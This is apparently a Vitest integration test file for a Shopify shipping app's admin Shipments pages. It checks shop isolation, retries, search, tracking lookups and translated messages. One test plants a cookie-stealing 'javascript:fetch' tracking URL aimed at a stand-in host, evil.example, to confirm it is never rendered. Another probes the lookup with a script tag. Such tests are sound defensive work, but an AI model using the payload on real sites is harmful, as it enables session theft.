/**
 * The merchant's Shipments pages in the built app, over HTTP as the embedded admin reaches them:
 * a shop sees its own shipments only, newest first and filtered; another shop's shipment is not
 * found; nothing is shown without a session token; Retry on a held shipment plans it again with
 * Shopify's current facts and queues it. The list searches by order name, tracking number, SKU and
 * customer name; looks up any tracking number at the provider; retries in bulk and shows the shop's
 * dead jobs with a retry, all within the shop.
 */
import type { Prisma, ShipmentState } from "@prisma/client";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { useStack } from "../support/stack";
import { adminData, adminDocument, BROWSER_USER_AGENT, sessionToken } from "./support";
import { placeOrderAt, studioHeldForReview } from "../support/studio";
import { addresses, exampleCase, locations, testSettings } from "../fixtures/orders";
import { planPackage } from "~/connector/plan-package";
import { said } from "~/lib/words/reason-said";
import { heldChanges } from "~/stores/shipments/shipment-columns";
import { endingOfTracking } from "~/connector/endings";
import { formatterFor } from "~/lib/format";
import { endShipment } from "~/stores/shipments/needs-attention.server";

const stack = useStack({ worker: false });

const LIST = "routes/app.shipments._index";
const DETAIL = "routes/app.shipments.$id";
const OTHER_SHOP = "other-shop.myshopify.com";

const ListData = z.object({
  filter: z.string(),
  page: z.number(),
  hasPrevious: z.boolean(),
  hasNext: z.boolean(),
  rows: z.array(
    z.object({ id: z.string(), orderName: z.string().nullable(), packageId: z.string(), state: z.string(), reason: z.string().nullable() }),
  ),
});
const DetailData = z.object({
  shipment: z.object({
    id: z.string(),
    state: z.string(),
    holdReasons: z.array(z.object({ field: z.string(), message: z.string() })),
    timeline: z.array(z.object({ at: z.string(), message: z.string() })),
  }),
});
const RetryAnswer = z.object({
  outcome: z.string(),
  message: z.string(),
  reasons: z.array(z.object({ field: z.string(), message: z.string() })),
});

let sequence = 0;

/** A shipment row as the pipeline would have left it, `minutesAgo` old. */
async function insertShipment(
  shop: string,
  state: ShipmentState,
  { minutesAgo = 0, ...fields }: Partial<Prisma.ShipmentUncheckedCreateInput> & { minutesAgo?: number } = {},
) {
  sequence += 1;
  const at = new Date(Date.now() - minutesAgo * 60_000);
  return stack().db.shipment.create({
    data: {
      shop,
      kind: "OUTBOUND",
      state,
      fulfillmentOrderId: `gid://shopify/FulfillmentOrder/${900_000 + sequence}`,
      orderId: `gid://shopify/Order/${800_000 + sequence}`,
      orderName: `#${1000 + sequence}`,
      packageId: `ADMIN-${sequence}`,
      warehouseCode: "US01",
      createdAt: at,
      updatedAt: at,
      ...fields,
    },
  });
}

describe("the shipments list", () => {
  it("shows the shop's shipments, newest first, never another shop's, and filters those needing attention", async () => {
    const s = stack();
    const older = await insertShipment(s.shop, "DELIVERED", { minutesAgo: 30, trackingNumber: "9400100000000000000001" });
    const held = await insertShipment(s.shop, "HELD", {
      minutesAgo: 10,
      lastErrorCode: "HELD",
      lastErrorText: "The postal code 1234 is not valid for the United States.",
      holdReasons: JSON.stringify([{ field: "Postal code", message: "The postal code 1234 is not valid for the United States." }]),
    });
    const theirs = await insertShipment(OTHER_SHOP, "HELD", { minutesAgo: 1, lastErrorText: "Another shop's problem." });

    const response = await adminData(s, "/app/shipments", LIST);
    expect(response.status, s.logs().slice(-3_000)).toBe(200);
    const all = ListData.parse(await response.json());
    const ids = all.rows.map((row) => row.id);
    expect(ids).not.toContain(theirs.id);
    expect(ids.indexOf(held.id)).toBeGreaterThanOrEqual(0);
    expect(ids.indexOf(held.id)).toBeLessThan(ids.indexOf(older.id));
    expect(all.rows.find((row) => row.id === held.id)).toMatchObject({
      reason: "The postal code 1234 is not valid for the United States.",
    });
    expect(all.rows.find((row) => row.id === older.id)).toMatchObject({ reason: null });

    const attention = ListData.parse(await (await adminData(s, "/app/shipments?filter=attention", LIST)).json());
    expect(attention.filter).toBe("attention");
    expect(attention.rows.map((row) => row.id)).toContain(held.id);
    expect(attention.rows.every((row) => row.state === "HELD" || row.state === "FAILED")).toBe(true);
    expect(attention.rows.map((row) => row.id)).not.toContain(theirs.id);
  });

  it("is not shown without a session token", async () => {
    const s = stack();
    const response = await adminData(s, "/app/shipments", LIST, { signedIn: false });
    // Sent to the login instead: for a data request Remix says so in headers, with no body.
    expect(response.status).toBe(204);
    expect(response.headers.get("X-Remix-Redirect")).toBe("/auth/login");
    expect(await response.text()).toBe("");
  });
});

describe("a shipment's page", () => {
  it("shows its reasons and timeline, and is not found for another shop's shipment", async () => {
    const s = stack();
    const mine = await insertShipment(s.shop, "FAILED", {
      lastErrorCode: "DestinationNotServed",
      lastErrorText: "The provider could not create the package: Service US01-STD does not deliver to CA.",
    });
    await s.db.shipmentEvent.createMany({
      data: [
        { shipmentId: mine.id, type: "sent", message: "Sent to the provider.", createdAt: new Date(Date.now() - 60_000) },
        { shipmentId: mine.id, type: "failed", message: "The provider could not create the package." },
      ],
    });
    const theirs = await insertShipment(OTHER_SHOP, "HELD");

    const detail = DetailData.parse(await (await adminData(s, `/app/shipments/${mine.id}`, DETAIL)).json());
    expect(detail.shipment).toMatchObject({ id: mine.id, state: "FAILED" });
    expect(detail.shipment.timeline.map((entry) => entry.message)).toEqual([
      "Sent to the provider.",
      "The provider could not create the package.",
    ]);

    const response = await adminData(s, `/app/shipments/${theirs.id}`, DETAIL);
    expect(response.status).toBe(404);
    expect(await response.text()).not.toContain(theirs.packageId);
    // What the page says instead, in the admin's language.
    const inChinese = await adminData(s, `/app/shipments/${theirs.id}?locale=zh-CN`, DETAIL);
    expect([inChinese.status, await inChinese.text()]).toEqual([404, "此店铺中没有这个发货单"]);

    // Nor can Retry reach it.
    const retry = await adminData(s, `/app/shipments/${theirs.id}`, DETAIL, { form: {} });
    expect(retry.status).toBe(404);
    expect((await s.db.shipment.findUniqueOrThrow({ where: { id: theirs.id } })).state).toBe("HELD");
  });

  it("retries a held shipment: planned again from Shopify's order, queued, and the timeline says so", async () => {
    const s = stack();
    await studioHeldForReview(s);
    const order = await placeOrderAt(s);
    // As the pipeline leaves it under hold-for-review (this stack runs no worker).
    const held = await insertShipment(s.shop, "HELD", {
      kind: "DROPSHIP",
      fulfillmentOrderId: order.fulfillmentOrderId,
      orderId: order.orderId,
      orderName: order.orderName,
      warehouseCode: "SZ-HUB",
      lastErrorCode: "REVIEW",
      lastErrorText: "Waiting for review.",
      holdReasons: JSON.stringify([{ field: "Review", message: "Waiting for review." }]),
    });

    const before = DetailData.parse(await (await adminData(s, `/app/shipments/${held.id}`, DETAIL)).json());
    expect(before.shipment.holdReasons).toEqual([{ field: "Review", message: "Waiting for review." }]);

    const response = await adminData(s, `/app/shipments/${held.id}`, DETAIL, { form: {} });
    expect(response.status, s.logs().slice(-3_000)).toBe(200);
    expect(RetryAnswer.parse(await response.json())).toEqual({
      outcome: "ready",
      message: "Queued again: the package is checked and on its way to the provider.",
      reasons: [],
    });

    const after = await s.db.shipment.findUniqueOrThrow({ where: { id: held.id }, include: { events: true } });
    expect(after).toMatchObject({ state: "READY", holdReasons: null, lastErrorText: null, serviceCode: "US01-EXP" });
    expect(after.events.map((event) => event.type)).toContain("retry_requested");
    expect(await s.db.job.count({ where: { shop: s.shop, kind: "push.batch", status: "PENDING" } })).toBe(1);

    const shown = DetailData.parse(await (await adminData(s, `/app/shipments/${held.id}`, DETAIL)).json());
    expect(shown.shipment.state).toBe("READY");
    expect(shown.shipment.timeline.at(-1)?.message).toMatch(
      /^Retried by the merchant: Package \S+ checked: goes to drop-ship location SZ-HUB with service US01-EXP\.$/,
    );
    // The Chinese admin reads the whole event in Chinese: the frame and the plan's own sentence inside it.
    const inChinese = DetailData.parse(await (await adminData(s, `/app/shipments/${held.id}?locale=zh-CN`, DETAIL)).json());
    expect(inChinese.shipment.timeline.at(-1)?.message).toMatch(
      /^商家已重试：包裹 \S+ 已通过检查：将从一件代发地点 SZ-HUB 以物流服务 US01-EXP 发出。$/,
    );

    // Retry again: it is no longer held, and the refusal is said in the admin's language.
    const again = RetryAnswer.parse(await (await adminData(s, `/app/shipments/${held.id}`, DETAIL, { form: {} })).json());
    expect(again).toEqual({
      outcome: "refused",
      message: "A ready shipment cannot be retried; only held and failed ones can.",
      reasons: [],
    });
    const againInChinese = RetryAnswer.parse(
      await (await adminData(s, `/app/shipments/${held.id}?locale=zh-CN`, DETAIL, { form: {} })).json(),
    );
    expect(againInChinese.message).toBe("状态为“等待发送”的发货单无法重试；只有暂缓或服务商拒绝的发货单可以重试。");
  });

  it("links a tracking page only when it is a web address: a javascript: one in the database is rendered as no link, on both pages", async () => {
    const s = stack();
    const shady = await insertShipment(s.shop, "DELIVERED", {
      trackingNumber: "9400100000000000000077",
      trackingUrl: "javascript:fetch('//evil.example/'+document.cookie)",
    });
    const fine = await insertShipment(s.shop, "DELIVERED", {
      trackingNumber: "9400100000000000000078",
      trackingUrl: "https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078",
    });
    for (const path of ["/app/shipments", `/app/shipments/${shady.id}`]) {
      const page = await adminDocument(s, path);
      expect(page.status, s.logs().slice(-3_000)).toBe(200);
      // Neither as a link nor in the loader's data the page carries.
      expect(page.html, path).not.toContain("javascript:fetch");
      expect(page.html, path).not.toContain("evil.example");
    }
    const detail = await adminDocument(s, `/app/shipments/${fine.id}`);
    expect(detail.html).toContain('href="https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000078"');
  });

  it("renders as the merchant sees it: state in words, the reason, and Retry", async () => {
    const s = stack();
    const held = await insertShipment(s.shop, "HELD", {
      orderName: "#4242",
      lastErrorText: "The recipient's phone number is missing.",
      holdReasons: JSON.stringify([{ field: "Phone", message: "The recipient's phone number is missing." }]),
    });
    await s.db.shipmentEvent.create({ data: { shipmentId: held.id, type: "held", message: "Held until fixed: 1 problem (Phone)." } });

    const list = await adminDocument(s, "/app/shipments?filter=attention");
    expect(list.status).toBe(200);
    expect(list.text).toContain("#4242");
    expect(list.text).toContain("On hold");
    expect(list.text).toContain("The recipient's phone number is missing.");

    const detail = await adminDocument(s, `/app/shipments/${held.id}`);
    expect(detail.status).toBe(200);
    expect(detail.text).toContain("Why it is on hold");
    expect(detail.text).toContain("Held until fixed: 1 problem (Phone).");
    expect(detail.text).toContain("Retry");

    const empty = await adminDocument(s, "/app/shipments?filter=cancelled");
    expect(empty.text).toContain("No shipment has been cancelled.");
  });

  it("says a held shipment's reasons in the admin's language, the provider's words as it said them, an older row's as stored", async () => {
    const s = stack();
    // Held as the pipeline holds it: the connector's own check, and the provider's refusal.
    const { fo, order } = exampleCase({ location: locations.DE01, destination: { ...addresses.DE, address1: "Lindenweg" } });
    const plan = planPackage(fo, order, testSettings());
    if (plan.kind !== "HELD") throw new Error(`expected a held plan, got ${plan.kind}`);
    const refused = { field: "ShipToAddress.Phone", ...said("providerRefusedField", "ShipToAddress.Phone", "Phone format invalid") };
    const held = await insertShipment(s.shop, "HELD", { orderName: "#4301", ...heldChanges("HELD", [...plan.reasons, refused]) });
    await insertShipment(s.shop, "HELD", {
      orderName: "#4302",
      lastErrorCode: "HELD",
      lastErrorText: "The recipient's phone number is missing.",
      holdReasons: JSON.stringify([{ field: "Phone", message: "The recipient's phone number is missing." }]),
    });
    const noHouseNumber = 'The street "Lindenweg" has no house number, and carriers in Germany (DE) need one.';
    const inChinese = "街道“Lindenweg”没有门牌号，而德国 (DE) 的承运商需要门牌号。请在订单的收货地址中补上门牌号，然后重试。";
    const providerInChinese = "服务商拒绝了 ShipToAddress.Phone：Phone format invalid。请修正后重试。";

    const list = await adminDocument(s, "/app/shipments?locale=zh-CN");
    expect(list.status, s.logs().slice(-3_000)).toBe(200);
    // Chinese runs its sentences together: no space after "。".
    expect(list.text).toContain(`${inChinese}${providerInChinese}`);
    expect(list.text).not.toContain(noHouseNumber);
    expect(list.text).toContain("The recipient's phone number is missing.");

    const detail = await adminDocument(s, `/app/shipments/${held.id}?locale=zh-CN`);
    expect(detail.text).toContain("暂缓原因");
    expect(detail.text).toContain("门牌号");
    expect(detail.text).toContain(inChinese);
    expect(detail.text).toContain(providerInChinese);
    expect(detail.text).not.toContain("has no house number");
    expect(detail.text).not.toContain("House number");

    const english = await adminDocument(s, `/app/shipments/${held.id}`);
    expect(english.text).toContain("House number");
    expect(english.text).toContain(`${noHouseNumber} Add the house number to the order's shipping address, then retry.`);
    expect(english.text).toContain("The provider refused ShipToAddress.Phone: Phone format invalid. Correct it, then retry.");
    const englishList = await adminDocument(s, "/app/shipments");
    expect(englishList.text).toContain(noHouseNumber);
  });

  it("says why an ended shipment was followed no further, and its timeline, in the admin's language; the carrier's words and an older row as stored", async () => {
    const s = stack();
    // Ended as the pipeline ends it: the connector's reading of the carrier's last word, stored by endShipment.
    const lost = endingOfTracking(
      {
        trackingStatus: "Lost",
        message: "Parcel missing at hub",
        happenedAt: new Date("2026-11-02T10:00:00Z"),
      },
      "UTC",
    );
    if (lost === null) throw new Error("expected Lost to end the follow");
    const travelling = await insertShipment(s.shop, "FULFILLED", { orderName: "#4311" });
    const ended = await endShipment(s.db, travelling, lost, { operation: "trackBatch" }, new Date());
    await insertShipment(s.shop, "ENDED", {
      orderName: "#4312",
      endedReason: "LOST",
      lastErrorCode: "LOST",
      lastErrorText: "The carrier reports the parcel lost.",
    });
    const english =
      'The carrier reports the parcel lost (TrackingStatus Lost on 2026-11-02: "Parcel missing at hub"). Open a claim with the provider, and refund or send the order again from Shopify.';
    // The pages write the checkpoint's day as they write dates; the stored English keeps it as stored.
    const inChinese =
      "承运商报告包裹丢失（承运商状态 Lost，2026年11月2日：“Parcel missing at hub”）。请向服务商提出索赔，并在 Shopify 中退款或重新发出订单。";
    expect(ended.lastErrorText).toBe(english);
    const englishShown = english.replace("on 2026-11-02", "on Nov 2, 2026");

    const list = await adminDocument(s, "/app/shipments?locale=zh-CN");
    expect(list.status, s.logs().slice(-3_000)).toBe(200);
    expect(list.text).toContain(inChinese);
    expect(list.text).not.toContain("Open a claim with the provider");
    expect(list.text).toContain("The carrier reports the parcel lost.");

    const detail = await adminDocument(s, `/app/shipments/${ended.id}?locale=zh-CN`);
    expect(detail.text).toContain("已停止跟踪：已丢失");
    expect(detail.text).toContain(inChinese);
    // The timeline's ending, framed as the page frames it.
    expect(detail.text).toContain(`已停止跟踪：${inChinese}`);
    expect(detail.text).not.toContain("Open a claim with the provider");
    const detailData = DetailData.parse(await (await adminData(s, `/app/shipments/${ended.id}?locale=zh-CN`, DETAIL)).json());
    expect(detailData.shipment.timeline.map((entry) => entry.message)).toContain(`已停止跟踪：${inChinese}`);

    const inEnglish = await adminDocument(s, `/app/shipments/${ended.id}`);
    expect(inEnglish.text).toContain(`Followed no further: ${englishShown}`);
    expect(inEnglish.text).not.toContain("承运商");
    const englishList = await adminDocument(s, "/app/shipments");
    expect(englishList.text).toContain(englishShown);
  });

  it("writes the date a scheduled shipment waits for in the shop's time zone, in the admin's language", async () => {
    const s = stack();
    await s.db.shop.update({ where: { domain: s.shop }, data: { timeZone: "Asia/Shanghai", timeZoneReadAt: new Date() } });
    const opensAt = "2026-12-01T09:30:00.000Z";
    const scheduled = { field: "Schedule", ...said("scheduled", opensAt) };
    const held = await insertShipment(s.shop, "HELD", { orderName: "#4321", ...heldChanges("SCHEDULED", [scheduled]) });
    // Stored in English for logs and alerts, in UTC.
    expect(held.lastErrorText).toContain("2026-12-01 09:30 UTC");

    const inShanghai = formatterFor("zh-CN", "Asia/Shanghai").dateTime(opensAt);
    expect(inShanghai).toContain("17:30");
    const detail = await adminDocument(s, `/app/shipments/${held.id}?locale=zh-CN`);
    expect(detail.status, s.logs().slice(-3_000)).toBe(200);
    expect(detail.text).toContain(`在 Shopify 中预定于 ${inShanghai} 发货`);
    expect(detail.text).not.toContain("09:30 UTC");
    const list = await adminDocument(s, "/app/shipments?locale=zh-CN");
    expect(list.text).toContain(`在 Shopify 中预定于 ${inShanghai} 发货`);

    const english = await adminDocument(s, `/app/shipments/${held.id}`);
    expect(english.text).toContain(
      `Scheduled in Shopify for ${formatterFor("en", "Asia/Shanghai").dateTime(opensAt)} (a subscription or pre-order)`,
    );
  });

  it("says why a package withdrawn while its send was in doubt waits, and offers no Retry while the provider is asked", async () => {
    const s = stack();
    const why =
      "Withdrawn, waiting for the provider: it could not say whether it has package ADMIN-W (500 Internal Server Error). Nothing more is sent.";
    const withdrawn = await insertShipment(s.shop, "HELD", {
      orderName: "#4343",
      sendInDoubtAt: new Date(),
      sendWithdrawnAt: new Date(),
      lastErrorCode: "WITHDRAWING",
      lastErrorText: why,
    });

    const list = ListData.parse(await (await adminData(s, "/app/shipments?filter=attention", LIST)).json());
    expect(list.rows.find((row) => row.id === withdrawn.id)?.reason).toBe(why);

    const detail = await adminDocument(s, `/app/shipments/${withdrawn.id}`);
    expect(detail.status).toBe(200);
    expect(detail.text).toContain("Withdrawn: asking the provider whether it has the package");
    expect(detail.text).toContain("could not say whether it has package ADMIN-W");
    expect(detail.text).not.toContain("Why it is on hold");

    // Nor does a Retry posted anyway plan it again.
    const retried = RetryAnswer.parse(await (await adminData(s, `/app/shipments/${withdrawn.id}`, DETAIL, { form: {} })).json());
    expect(retried).toMatchObject({ outcome: "refused", message: expect.stringMatching(/asking the provider whether it has it/) });
    expect(await s.db.shipment.findUniqueOrThrow({ where: { id: withdrawn.id } })).toMatchObject({
      state: "HELD",
      lastErrorCode: "WITHDRAWING",
    });
  });
});

const SearchData = ListData.extend({ q: z.string() });
const TrackingData = z.object({
  tracking: z.discriminatedUnion("kind", [
    z.object({
      kind: z.literal("found"),
      trackingNumber: z.string(),
      status: z.string().nullable(),
      checkpoints: z.array(z.object({ message: z.string().nullable() })),
      shipment: z.object({ id: z.string() }).nullable(),
    }),
    z.object({ kind: z.literal("problem"), trackingNumber: z.string(), message: z.string() }),
  ]),
});
const BulkData = z.object({
  intent: z.string(),
  tone: z.string(),
  message: z.string(),
  problems: z.array(z.object({ orderName: z.string(), message: z.string() })),
});
const DeadJobsData = z.object({ deadJobs: z.array(z.object({ id: z.string(), what: z.string(), reason: z.string() })) });

/** A drop-ship package created in the stack's sandbox, past all its checkpoints: its tracking number. */
async function sandboxParcel(packageId: string): Promise<string> {
  const s = stack();
  const headers = { "Content-Type": "application/json", Authorization: "Bearer sandbox" };
  const created = await fetch(`${s.sandboxUrl}/v1/directExpressOrders`, {
    method: "POST",
    headers,
    body: JSON.stringify({
      Package: {
        PackageId: packageId,
        ServiceCode: "US01-EXP",
        ShipToAddress: { Contact: "Ada Lovelace", Country: "CA", City: "Montreal", Street1: "1 Rue Sainte-Catherine", Postcode: "H2X 1K4" },
        Weight: 450,
        Length: 20,
        Width: 15,
        Height: 10,
        Skus: [{ Sku: "MUG-CER-350-WHT", Quantity: 1, DeclareValue: 6.5, DeclareNameEn: "Ceramic mug" }],
      },
    }),
  });
  expect(created.status, await created.clone().text()).toBe(201);
  const advanced = await fetch(`${s.sandboxUrl}/__sandbox/clock`, {
    method: "POST",
    headers,
    body: JSON.stringify({ advanceMs: 30 * 86_400_000 }),
  });
  expect(advanced.status).toBe(200);
  const status = z
    .object({ TrackingNumber: z.string() })
    .parse(await (await fetch(`${s.sandboxUrl}/v1/directExpressOrders/${packageId}/status`, { headers })).json());
  return status.TrackingNumber;
}

describe("searching the shipments list", () => {
  it("finds a shipment by order name, tracking number, SKU and customer name, within the tab, never another shop's", async () => {
    const s = stack();
    const request = (sku: string, name: string) =>
      JSON.stringify({ PackageId: "X", ShipToAddress: { Contact: name, Country: "US" }, Skus: [{ Sku: sku, Quantity: 1 }] });
    const wanted = await insertShipment(s.shop, "FULFILLED", {
      orderName: "#7301",
      trackingNumber: "1Z999AA10123456784",
      requestSent: request("SEARCH-LAMP-01", "Marie Curie"),
    });
    const other = await insertShipment(s.shop, "HELD", { orderName: "#7302", requestSent: request("SEARCH-DESK-02", "Niels Bohr") });
    const theirs = await insertShipment(OTHER_SHOP, "FULFILLED", {
      orderName: "#7301",
      trackingNumber: "1Z999AA10123456799",
      requestSent: request("SEARCH-LAMP-01", "Marie Curie"),
    });

    const ids = async (path: string) => SearchData.parse(await (await adminData(s, path, LIST)).json()).rows.map((row) => row.id);
    for (const q of ["#7301", "7301", "1Z999AA10123456784", "search-lamp-01", "marie curie"]) {
      const found = await ids(`/app/shipments?q=${encodeURIComponent(q)}`);
      expect(found, q).toEqual([wanted.id]);
    }
    expect(await ids(`/app/shipments?q=Bohr`)).toEqual([other.id]);
    expect(await ids(`/app/shipments?q=Bohr&filter=fulfilled`)).toEqual([]);
    expect(await ids(`/app/shipments?q=SEARCH-`)).not.toContain(theirs.id);
    const list = SearchData.parse(await (await adminData(s, "/app/shipments?q=%20%237302%20", LIST)).json());
    expect(list.q).toBe("#7302");
    expect(list.rows.map((row) => row.id)).toEqual([other.id]);
  });

  it("finds a package by its recipient's name until it is final, and by its SKU and order after (decision 0038)", async () => {
    const s = stack();
    // As planning records them now: the SKUs and the recipient's words apart; the second one delivered, its recipient removed.
    const travelling = await insertShipment(s.shop, "CREATED", {
      orderName: "#7311",
      searchText: "search-vase-03",
      recipientSearchText: "ada lovelace",
    });
    const delivered = await insertShipment(s.shop, "DELIVERED", {
      orderName: "#7312",
      searchText: "search-vase-03",
      recipientSearchText: null,
      recipientRemovedAt: new Date(),
    });
    const ids = async (q: string) =>
      SearchData.parse(await (await adminData(s, `/app/shipments?q=${encodeURIComponent(q)}`, LIST)).json()).rows.map((row) => row.id);
    expect(await ids("Lovelace")).toEqual([travelling.id]);
    expect((await ids("SEARCH-VASE-03")).sort()).toEqual([travelling.id, delivered.id].sort());
    expect(await ids("#7312")).toEqual([delivered.id]);
  });
});

describe("the tracking lookup", () => {
  it("shows the provider's checkpoints and our shipment for a number of ours, the parcel alone for another, and an unknown number in words", async () => {
    const s = stack();
    const ours = await sandboxParcel("LOOKUP-1");
    const notOurs = await sandboxParcel("LOOKUP-2");
    const shipment = await insertShipment(s.shop, "DELIVERED", { orderName: "#7401", trackingNumber: ours });
    // Another shop's shipment with that number is not shown as ours.
    await insertShipment(OTHER_SHOP, "DELIVERED", { orderName: "#7402", trackingNumber: notOurs });

    const found = TrackingData.parse(await (await adminData(s, `/app/shipments?track=${ours}`, LIST)).json()).tracking;
    expect(found, s.logs().slice(-3_000)).toMatchObject({
      kind: "found",
      trackingNumber: ours,
      status: "Delivered",
      shipment: { id: shipment.id },
    });
    if (found.kind !== "found") throw new Error("not found");
    expect(found.checkpoints[0]?.message).toBe("Delivered");
    expect(found.checkpoints.length).toBeGreaterThan(1);

    const theirs = TrackingData.parse(await (await adminData(s, `/app/shipments?track=${notOurs}`, LIST)).json()).tracking;
    expect(theirs).toMatchObject({ kind: "found", trackingNumber: notOurs, shipment: null });

    const unknown = TrackingData.parse(await (await adminData(s, "/app/shipments?track=NOPE0000000000", LIST)).json()).tracking;
    expect(unknown).toEqual({
      kind: "problem",
      trackingNumber: "NOPE0000000000",
      message:
        "The provider knows no parcel with tracking number NOPE0000000000. Check the number; a carrier's number appears only once the parcel is picked up.",
    });
    const odd = TrackingData.parse(await (await adminData(s, "/app/shipments?track=%3Cscript%3E", LIST)).json()).tracking;
    expect(odd).toMatchObject({ kind: "problem", message: "A tracking number has only letters, digits and dashes, at most 60 of them." });
  });
});

describe("bulk actions and stopped jobs", () => {
  it("retries the selected shipments of this shop only, and says what happened to each", async () => {
    const s = stack();
    const mine = await insertShipment(s.shop, "FAILED", {
      orderName: "#7501",
      fulfillmentOrderId: "gid://shopify/FulfillmentOrder/999999001",
    });
    const theirs = await insertShipment(OTHER_SHOP, "FAILED", { orderName: "#7502" });
    const form = new URLSearchParams([
      ["intent", "retry-selected"],
      ["id", mine.id],
      ["id", theirs.id],
    ]);
    const url = new URL("/app/shipments", s.appUrl);
    url.searchParams.set("_data", LIST);
    const response = await fetch(url, {
      method: "POST",
      headers: { "User-Agent": BROWSER_USER_AGENT, Authorization: `Bearer ${sessionToken(s.shop, s.apiKey, s.apiSecret)}` },
      body: form,
    });
    expect(response.status, s.logs().slice(-3_000)).toBe(200);
    const answer = BulkData.parse(await response.json());
    // The emulator has no such fulfillment order: nothing is queued, and the merchant reads why.
    expect(answer.message).toBe("0 shipments queued to the provider, 1 not retried.");
    expect(answer.problems).toEqual([{ orderName: "#7501", message: "Shopify no longer has this fulfillment order." }]);
    // A Chinese admin reads why in Chinese.
    url.searchParams.set("locale", "zh-CN");
    const inChinese = BulkData.parse(
      await (
        await fetch(url, {
          method: "POST",
          headers: { "User-Agent": BROWSER_USER_AGENT, Authorization: `Bearer ${sessionToken(s.shop, s.apiKey, s.apiSecret)}` },
          body: new URLSearchParams([
            ["intent", "retry-selected"],
            ["id", mine.id],
          ]),
        })
      ).json(),
    );
    expect(inChinese.problems).toEqual([{ orderName: "#7501", message: "Shopify 中已没有这个履约订单。" }]);
    expect((await s.db.shipment.findUniqueOrThrow({ where: { id: theirs.id } })).state).toBe("FAILED");
    expect(await s.db.shipmentEvent.count({ where: { shipmentId: theirs.id } })).toBe(0);
  });

  it("says there is nothing to send when no shipment is held", async () => {
    const s = stack();
    await s.db.shipment.updateMany({ where: { shop: s.shop, state: "HELD" }, data: { state: "CANCELLED" } });
    const answer = BulkData.parse(await (await adminData(s, "/app/shipments", LIST, { form: { intent: "send-held" } })).json());
    expect(answer).toEqual({ intent: "send-held", tone: "info", message: "No shipment is on hold.", problems: [] });
    expect((await adminData(s, "/app/shipments", LIST, { form: { intent: "drop-tables" } })).status).toBe(400);
  });

  it("lists the shop's dead jobs with their reason and retries one, never another shop's", async () => {
    const s = stack();
    const now = new Date();
    const dead = (id: string, shop: string) =>
      s.db.job.create({
        data: {
          id,
          shop,
          kind: "write-back.fulfil",
          payload: JSON.stringify({ shop }),
          status: "DEAD",
          attempts: 8,
          maxAttempts: 8,
          runAt: now,
          finishedAt: now,
          lastError: "Shopify refused the fulfilment: the order is archived.",
        },
      });
    await dead("dead-mine", s.shop);
    await dead("dead-theirs", OTHER_SHOP);

    const listed = DeadJobsData.parse(await (await adminData(s, "/app/shipments", LIST)).json()).deadJobs;
    expect(listed.map((job) => job.id)).toContain("dead-mine");
    expect(listed.map((job) => job.id)).not.toContain("dead-theirs");
    expect(listed.find((job) => job.id === "dead-mine")).toMatchObject({
      what: "Writing tracking to Shopify",
      reason: "Shopify refused the fulfilment: the order is archived.",
    });
    // An error kept as text alone (Shopify's words, or a row from before sentences) reads as recorded on a Chinese page too.
    const inChinese = DeadJobsData.parse(await (await adminData(s, "/app/shipments?locale=zh-CN", LIST)).json()).deadJobs;
    expect(inChinese.find((job) => job.id === "dead-mine")?.reason).toBe("Shopify refused the fulfilment: the order is archived.");

    const refused = BulkData.parse(
      await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-theirs" } })).json(),
    );
    expect(refused.message).toBe("That job is no longer stopped: it was retried already.");
    expect((await s.db.job.findUniqueOrThrow({ where: { id: "dead-theirs" } })).status).toBe("DEAD");

    const retried = BulkData.parse(
      await (await adminData(s, "/app/shipments", LIST, { form: { intent: "retry-job", jobId: "dead-mine" } })).json(),
    );
    expect(retried.message).toBe("The job is queued again and runs in a moment.");
    expect((await s.db.job.findUniqueOrThrow({ where: { id: "dead-mine" } })).status).toBe("PENDING");
  });
});

describe("sending all held shipments that now pass", () => {
  it("queues a held shipment whose order now passes, and says so", async () => {
    const s = stack();
    await studioHeldForReview(s);
    // Nothing else of this shop is held: the answer is about this one alone.
    await s.db.shipment.updateMany({ where: { shop: s.shop, state: "HELD" }, data: { state: "CANCELLED" } });
    const order = await placeOrderAt(s);
    const held = await insertShipment(s.shop, "HELD", {
      kind: "DROPSHIP",
      fulfillmentOrderId: order.fulfillmentOrderId,
      orderId: order.orderId,
      orderName: order.orderName,
      warehouseCode: "SZ-HUB",
      lastErrorCode: "REVIEW",
      lastErrorText: "Waiting for review.",
      holdReasons: JSON.stringify([{ field: "Review", message: "Waiting for review." }]),
    });

    const response = await adminData(s, "/app/shipments", LIST, { form: { intent: "send-held" } });
    expect(response.status, s.logs().slice(-3_000)).toBe(200);
    expect(BulkData.parse(await response.json())).toEqual({
      intent: "send-held",
      tone: "success",
      message: "1 shipment queued to the provider.",
      problems: [],
    });
    expect((await s.db.shipment.findUniqueOrThrow({ where: { id: held.id } })).state).toBe("READY");
    expect(await s.db.job.count({ where: { shop: s.shop, kind: "push.batch", status: "PENDING" } })).toBeGreaterThanOrEqual(1);
  });
});
